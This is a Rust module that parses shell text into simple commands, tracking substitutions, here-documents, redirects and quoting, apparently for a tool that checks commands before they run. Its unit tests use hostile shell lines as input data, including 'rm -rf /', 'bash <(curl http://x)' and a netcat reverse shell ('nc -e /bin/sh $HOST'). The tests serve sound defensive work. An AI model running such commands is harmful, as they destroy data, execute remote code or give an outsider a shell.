//! Shell text as a flat list of simple commands, by a real parser: a here-document is one thing, a quoted word is data,
//! and a command inside `$(…)`, a loop or `sh -c '…'` is a command like any other.

use super::choice;
use super::pieces::{hidden, hidden_in_document, is_quotes, unquote};
use brush_parser::ast::{
    AndOr, AssignmentName, Command as Node, CommandPrefixOrSuffixItem as Item, CompoundCommand,
    CompoundList, ExtendedTestExpr, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline,
    Program, RedirectList, SimpleCommand, UnexpandedArithmeticExpr, Word as Raw,
};
use brush_parser::{ParseError, ParserOptions, parse_tokens, uncached_tokenize_str};

/// How deep commands may nest, and how long one text may be: a parser that recurses must not be led astray.
const DEPTH: usize = 24;
const LONGEST: usize = 1024 * 1024;

/// One simple command.
#[derive(Clone, Debug, Default)]
pub struct Command {
    /// Line in the text, from 1.
    pub line: usize,
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// The text of a here-document or here-string on its standard input.
    pub input: Option<String>,
    /// Where the first line of `input` stands in the text; 0 for a here-string.
    pub input_line: usize,
    /// What is assigned in front of it, or by it alone.
    pub assigns: Vec<Assign>,
    /// The function that is defined here.
    pub defines: Option<String>,
    /// The values of a `for` loop.
    pub each: Vec<Word>,
    /// Which pipeline it belongs to, and its place in it.
    pub pipeline: (usize, usize),
    /// The command stands behind `||`.
    pub is_otherwise: bool,
    /// Somebody looks at how it ended: it is a condition, or something stands behind `||`.
    pub is_checked: bool,
    /// It runs inside `$(…)` or `<(…)`; the program that reads its output.
    pub read_by: Option<String>,
}

/// One word after quotes are taken off.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Word {
    /// Expansions stand in it as they were written: `$NAME`, `$(…)`.
    pub text: String,
    /// All of it was quoted: it is data, not syntax.
    pub is_quoted: bool,
    /// Names of variables it expands without a default or a check (`${x:-1}`, `${x:?}`).
    pub expands: Vec<String>,
    /// Expansions outside quotes, as written: the shell splits what they give.
    pub splits: Vec<String>,
}

/// A variable and what it is set to.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Assign {
    pub name: String,
    /// The value; commands inside it stand in `inner`.
    pub value: String,
    /// The text of a command whose output is the value.
    pub inner: Option<String>,
}

/// A redirection to or from a file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    pub writes: bool,
    /// What was in the file stays.
    pub appends: bool,
    pub fd: Option<i32>,
    pub target: String,
}

/// Why a text is no shell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct NotShell {
    pub line: usize,
    pub why: String,
}

/// Parses shell text.
pub fn parse(text: &str) -> Result<Vec<Command>, NotShell> {
    let mut flat = Flat { options: ParserOptions::default(), commands: Vec::new(), pipelines: 0 };
    flat.text(text, 0, None, 0)?;
    Ok(flat.commands)
}

struct Flat {
    options: ParserOptions,
    commands: Vec<Command>,
    pipelines: usize,
}

impl Flat {
    fn text(
        &mut self,
        text: &str,
        above: usize,
        read_by: Option<&str>,
        depth: usize,
    ) -> Result<(), NotShell> {
        if text.len() > LONGEST || depth > DEPTH || nesting(text) > DEPTH {
            return Err(NotShell {
                line: above + 1,
                why: "too long or too deeply nested to be judged".into(),
            });
        }
        let program = self.program(text).or_else(|why| {
            let opened = choice::with_open_patterns(text);
            opened.and_then(|text| self.program(&text).ok()).ok_or(why)
        });
        let program = program.map_err(|why| NotShell { line: above + why.line, ..why })?;
        for list in &program.complete_commands {
            self.list(list, &Place { above, read_by, depth, is_checked: false });
        }
        Ok(())
    }

    fn program(&self, text: &str) -> Result<Program, NotShell> {
        let end = text.lines().count().max(1);
        let tokens = uncached_tokenize_str(text, &self.options.tokenizer_options())
            .map_err(|error| NotShell { line: end, why: error.to_string() })?;
        parse_tokens(&choice::without_last_breaks(tokens), &self.options).map_err(|error| {
            let line = match &error {
                ParseError::ParsingNear(at) => at.line,
                _ => end,
            };
            NotShell { line, why: error.to_string() }
        })
    }

    fn list(&mut self, list: &CompoundList, place: &Place<'_>) {
        for item in &list.0 {
            let mut rest = item.0.additional.iter().peekable();
            let is_checked = |next: Option<&&AndOr>| matches!(next, Some(AndOr::Or(_)));
            self.pipeline(&item.0.first, false, &place.looked_at(is_checked(rest.peek())));
            while let Some(next) = rest.next() {
                let place = place.looked_at(is_checked(rest.peek()));
                match next {
                    AndOr::And(pipeline) => self.pipeline(pipeline, false, &place),
                    AndOr::Or(pipeline) => self.pipeline(pipeline, true, &place),
                }
            }
        }
    }

    /// A list whose result decides what happens next.
    fn condition(&mut self, list: &CompoundList, place: &Place<'_>) {
        self.list(list, &place.looked_at(true));
    }

    fn pipeline(&mut self, pipeline: &Pipeline, is_otherwise: bool, place: &Place<'_>) {
        self.pipelines += 1;
        let number = self.pipelines;
        for (at, node) in pipeline.seq.iter().enumerate() {
            self.node(node, (number, at), is_otherwise, place);
        }
    }

    fn node(&mut self, node: &Node, at: (usize, usize), is_otherwise: bool, place: &Place<'_>) {
        match node {
            Node::Simple(simple) => self.simple(simple, at, is_otherwise, place),
            Node::Compound(compound, redirects) => {
                self.compound(compound, place);
                self.around(redirects.as_ref(), at, place);
            }
            Node::Function(function) => {
                self.commands.push(Command {
                    defines: Some(function.fname.value.clone()),
                    ..Command::default()
                });
                self.compound(&function.body.0, place);
                self.around(function.body.1.as_ref(), at, place);
            }
            Node::ExtendedTest(test, redirects) => {
                let mut words = Vec::new();
                tested(&test.expr, &mut words);
                self.asked(words.into_iter(), test.loc.start.line, place);
                self.around(redirects.as_ref(), at, place);
            }
        }
    }

    /// What stands behind a loop or a group goes for all of it.
    fn around(
        &mut self,
        redirects: Option<&RedirectList>,
        pipeline: (usize, usize),
        place: &Place<'_>,
    ) {
        let redirects = || redirects.iter().flat_map(|list| &list.0);
        let line = redirects().find_map(|redirect| match redirect {
            IoRedirect::File(_, _, IoFileRedirectTarget::Filename(word))
            | IoRedirect::OutputAndError(word, _) => word.loc.as_ref().map(|at| at.start.line),
            _ => None,
        });
        let line = place.above + line.unwrap_or(1);
        let mut all = Command { line, pipeline, ..Command::default() };
        let mut inner = Vec::new();
        for redirect in redirects() {
            self.redirect(redirect, &mut all, &mut inner, place);
        }
        if all.redirects.iter().any(|to| to.writes) {
            self.commands.push(all);
        }
        self.inner(inner, line, None, place);
    }

    fn compound(&mut self, compound: &CompoundCommand, place: &Place<'_>) {
        match compound {
            CompoundCommand::BraceGroup(group) => self.list(&group.list, place),
            CompoundCommand::Subshell(shell) => self.list(&shell.list, place),
            CompoundCommand::ForClause(each) => {
                let mut inner = Vec::new();
                let line = place.above + each.loc.start.line;
                let values = each.values.iter().flatten();
                let words: Vec<Word> = values.map(|word| self.plain(word, &mut inner)).collect();
                self.commands.push(Command {
                    line,
                    assigns: vec![Assign {
                        name: each.variable_name.clone(),
                        value: String::new(),
                        inner: inner.first().cloned(),
                    }],
                    each: words,
                    ..Command::default()
                });
                self.inner(inner, line, Some("for"), place);
                self.list(&each.body.list, place);
            }
            CompoundCommand::ArithmeticForClause(each) => {
                let sums = [&each.initializer, &each.condition, &each.updater];
                self.sums(sums.into_iter().flatten(), each.loc.start.line, place);
                self.list(&each.body.list, place);
            }
            CompoundCommand::WhileClause(each) | CompoundCommand::UntilClause(each) => {
                self.condition(&each.0, place);
                self.list(&each.1.list, place);
            }
            CompoundCommand::IfClause(choice) => {
                self.condition(&choice.condition, place);
                self.list(&choice.then, place);
                for other in choice.elses.iter().flatten() {
                    other.condition.iter().for_each(|list| self.condition(list, place));
                    self.list(&other.body, place);
                }
            }
            CompoundCommand::CaseClause(choice) => {
                let patterns = choice.cases.iter().flat_map(|case| &case.patterns);
                let words = std::iter::once(&choice.value).chain(patterns);
                self.asked(words, choice.loc.start.line, place);
                choice
                    .cases
                    .iter()
                    .filter_map(|case| case.cmd.as_ref())
                    .for_each(|list| self.list(list, place));
            }
            CompoundCommand::Arithmetic(sum) => {
                self.sums(std::iter::once(&sum.expr), sum.loc.start.line, place);
            }
            CompoundCommand::Coprocess(beside) => self.node(&beside.body, (0, 0), false, place),
        }
    }

    fn sums<'a>(
        &mut self,
        sums: impl Iterator<Item = &'a UnexpandedArithmeticExpr>,
        line: usize,
        place: &Place<'_>,
    ) {
        let mut inner = Vec::new();
        sums.for_each(|sum| hidden(&sum.value, &mut inner));
        self.inner(inner, place.above + line, Some("test"), place);
    }

    /// The commands inside words that are only looked at.
    fn asked<'a>(&mut self, words: impl Iterator<Item = &'a Raw>, line: usize, place: &Place<'_>) {
        let mut inner = Vec::new();
        words.for_each(|word| drop(self.plain(word, &mut inner)));
        self.inner(inner, place.above + line, Some("test"), place);
    }

    fn simple(
        &mut self,
        simple: &SimpleCommand,
        pipeline: (usize, usize),
        is_otherwise: bool,
        place: &Place<'_>,
    ) {
        let mut command = Command {
            pipeline,
            is_otherwise,
            is_checked: place.is_checked,
            read_by: place.read_by.map(str::to_owned),
            ..Command::default()
        };
        let mut inner = Vec::new();
        for item in simple.prefix.iter().flat_map(|prefix| &prefix.0) {
            self.item(item, &mut command, &mut inner, place);
        }
        if let Some(name) = &simple.word_or_name {
            self.word(name, &mut command, &mut inner, place);
        }
        for item in simple.suffix.iter().flat_map(|suffix| &suffix.0) {
            self.item(item, &mut command, &mut inner, place);
        }
        if command.line == 0 {
            command.line = place.above + 1;
        }
        let (line, reader) = (command.line, command.words.first().map(|word| word.text.clone()));
        self.commands.push(command);
        self.inner(inner, line, reader.as_deref(), place);
    }

    /// What cannot be parsed inside a substitution is the shell's to complain about; the outer command stands.
    fn inner(&mut self, texts: Vec<String>, line: usize, reader: Option<&str>, place: &Place<'_>) {
        for text in texts {
            let _ = self.text(&text, line.saturating_sub(1), reader, place.depth + 1);
        }
    }

    fn item(
        &mut self,
        item: &Item,
        command: &mut Command,
        inner: &mut Vec<String>,
        place: &Place<'_>,
    ) {
        match item {
            Item::Word(word) => self.word(word, command, inner, place),
            Item::AssignmentWord(assignment, word) => {
                let (AssignmentName::VariableName(name)
                | AssignmentName::ArrayElementName(name, _)) = &assignment.name;
                let mut aside = Command::default();
                let n_before = inner.len();
                self.word(word, &mut aside, inner, place);
                command.line = command.line.max(aside.line);
                let text = aside.words.first().map_or("", |word| &word.text);
                command.assigns.push(Assign {
                    name: name.clone(),
                    value: text.split_once('=').map_or("", |(_, value)| value).to_owned(),
                    inner: inner.get(n_before).cloned(),
                });
                if !command.words.is_empty() {
                    command.words.append(&mut aside.words);
                }
            }
            Item::ProcessSubstitution(_, shell) => {
                let reader = command.words.first().map(|word| word.text.clone());
                self.list(
                    &shell.list,
                    &Place { read_by: reader.as_deref(), depth: place.depth + 1, ..*place },
                );
                command.words.push(Word { text: "<(…)".into(), ..Word::default() });
            }
            Item::IoRedirect(redirect) => self.redirect(redirect, command, inner, place),
        }
    }

    fn redirect(
        &mut self,
        redirect: &IoRedirect,
        command: &mut Command,
        inner: &mut Vec<String>,
        place: &Place<'_>,
    ) {
        match redirect {
            IoRedirect::File(fd, kind, target) => {
                let writes =
                    !matches!(kind, IoFileRedirectKind::Read | IoFileRedirectKind::DuplicateInput);
                let target = match target {
                    IoFileRedirectTarget::Filename(word) => self.plain(word, inner).text,
                    IoFileRedirectTarget::Duplicate(word) => {
                        let text = self.plain(word, inner).text;
                        let is_number = text.bytes().all(|b| b.is_ascii_digit() || b == b'-');
                        if is_number { format!("&{text}") } else { text }
                    }
                    IoFileRedirectTarget::Fd(fd) => format!("&{fd}"),
                    IoFileRedirectTarget::ProcessSubstitution(_, shell) => {
                        let reader = command.words.first().map(|word| word.text.clone());
                        self.list(&shell.list, &Place { read_by: reader.as_deref(), ..*place });
                        "<(…)".to_owned()
                    }
                };
                let appends = matches!(kind, IoFileRedirectKind::Append);
                command.redirects.push(Redirect { writes, appends, fd: *fd, target });
            }
            IoRedirect::HereDocument(_, document) => {
                if document.requires_expansion {
                    hidden_in_document(&document.doc.value, inner);
                }
                command.input = Some(document.doc.value.clone());
                command.input_line =
                    place.above + document.doc.loc.as_ref().map_or(0, |at| at.start.line);
            }
            IoRedirect::HereString(_, word) => {
                command.input = Some(self.plain(word, inner).text);
            }
            IoRedirect::OutputAndError(word, appends) => {
                let target = self.plain(word, inner).text;
                for fd in [1, 2] {
                    command.redirects.push(Redirect {
                        writes: true,
                        appends: *appends,
                        fd: Some(fd),
                        target: target.clone(),
                    });
                }
            }
        }
    }

    fn word(
        &mut self,
        word: &Raw,
        command: &mut Command,
        inner: &mut Vec<String>,
        place: &Place<'_>,
    ) {
        if command.line == 0 {
            command.line = place.above + word.loc.as_ref().map_or(1, |at| at.start.line);
        }
        let word = self.plain(word, inner);
        command.words.push(word);
    }

    fn plain(&self, raw: &Raw, inner: &mut Vec<String>) -> Word {
        let Ok(pieces) = brush_parser::word::parse(&raw.value, &self.options) else {
            return Word { text: raw.value.clone(), ..Word::default() };
        };
        let is_quoted = !pieces.is_empty() && pieces.iter().all(|piece| is_quotes(&piece.piece));
        let mut word = Word { is_quoted, ..Word::default() };
        unquote(&pieces, &raw.value, &mut word, inner, false);
        word
    }
}

#[derive(Clone, Copy)]
struct Place<'a> {
    /// Lines above the text being parsed.
    above: usize,
    read_by: Option<&'a str>,
    depth: usize,
    is_checked: bool,
}

impl Place<'_> {
    fn looked_at(&self, is_checked: bool) -> Self {
        Self { is_checked: is_checked || self.is_checked, ..*self }
    }
}

/// The words of a test `[[ … ]]`.
fn tested<'a>(test: &'a ExtendedTestExpr, words: &mut Vec<&'a Raw>) {
    match test {
        ExtendedTestExpr::And(one, two) | ExtendedTestExpr::Or(one, two) => {
            tested(one, words);
            tested(two, words);
        }
        ExtendedTestExpr::Not(one) | ExtendedTestExpr::Parenthesized(one) => tested(one, words),
        ExtendedTestExpr::UnaryTest(_, word) => words.push(word),
        ExtendedTestExpr::BinaryTest(_, one, two) => words.extend([one, two]),
    }
}

/// The deepest nesting of brackets in a text, quotes or not: more than a person writes is not worth a stack.
fn nesting(text: &str) -> usize {
    let (mut depth, mut deepest) = (0usize, 0);
    for byte in text.bytes() {
        match byte {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        deepest = deepest.max(depth);
    }
    deepest.max(words(text))
}

/// How deep `if`, loops and `case` nest, counted where a command may stand.
fn words(text: &str) -> usize {
    let (mut depth, mut deepest) = (0usize, 0);
    for row in text.split(['\n', ';', '&', '|']) {
        let mut row = row.trim_start();
        while let Some(rest) =
            ["do ", "then ", "else ", "{ ", "( "].iter().find_map(|word| row.strip_prefix(word))
        {
            row = rest.trim_start();
        }
        match row.split(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or_default() {
            "if" | "while" | "until" | "for" | "case" | "select" => depth += 1,
            "fi" | "done" | "esac" => depth = depth.saturating_sub(1),
            _ => {}
        }
        deepest = deepest.max(depth);
    }
    // Words of a here-document or a comment may look like these: more than a person nests is still few.
    deepest / 4
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<String> {
        parse(text)
            .unwrap()
            .iter()
            .filter_map(|c| c.words.first())
            .map(|word| word.text.clone())
            .collect()
    }

    #[test]
    fn every_command_is_found_and_no_data() {
        assert_eq!(
            programs("sudo rm -rf /tmp/x && echo 'rm -rf /' | tee log"),
            ["sudo", "echo", "tee"]
        );
        assert_eq!(
            programs("x=$(docker ps -q); for i in $x; do docker rm $i; done"),
            ["docker", "docker"]
        );
        assert_eq!(programs("cat <<'E'\nrm -rf /\nE"), ["cat"]);
        assert_eq!(programs("bash <(curl http://x)"), ["curl", "bash"]);
        assert_eq!(programs("# only a comment"), Vec::<String>::new());
    }

    #[test]
    fn a_command_is_found_wherever_a_shell_would_run_it() {
        for text in [
            "[[ -n $(halt) ]]",
            "[[ x = y && ( ! -e `halt` ) ]]",
            "(( x = $(halt) ))",
            "for ((i=$(halt);i<3;i++)); do :; done",
            "echo $((1 + $(halt)))",
            "x=${y:-${z:-$(halt)}}",
            "coproc halt",
            "while read -r x; do :; done < <(halt)",
            "f() { :; } < <(halt)",
            "cat <<E\nit's $(halt)\nE",
            "case $(halt) in x) ls;; esac",
        ] {
            assert!(programs(text).contains(&"halt".to_owned()), "{text}: {:?}", programs(text));
        }
        assert!(!programs("cat <<'E'\n$(halt)\nE").contains(&"halt".to_owned()));
        let commands = parse("if a; then\n b\nfi > /etc/x").unwrap();
        assert_eq!((commands[2].line, &*commands[2].redirects[0].target), (3, "/etc/x"));
    }

    #[test]
    fn lines_and_quotes_are_known() {
        let commands = parse("true\n\nnft -f - <<E\ntable x\nE\nnc -e \"/bin/sh\" $HOST").unwrap();
        assert_eq!(commands[1].line, 3);
        assert_eq!(commands[1].input.as_deref(), Some("table x\n"));
        assert_eq!(commands[2].line, 6);
        assert!(commands[2].words[2].is_quoted && commands[2].words[2].text == "/bin/sh");
        assert_eq!(commands[2].words[3].expands, ["HOST"]);
    }

    #[test]
    fn what_is_no_shell_says_where() {
        assert!(parse("int main(int argc) {\n set({ A; });\n}").is_err());
        assert!(parse("docker run <image-name>").is_err());
        assert!(parse(&"(".repeat(100_000)).is_err());
    }
}
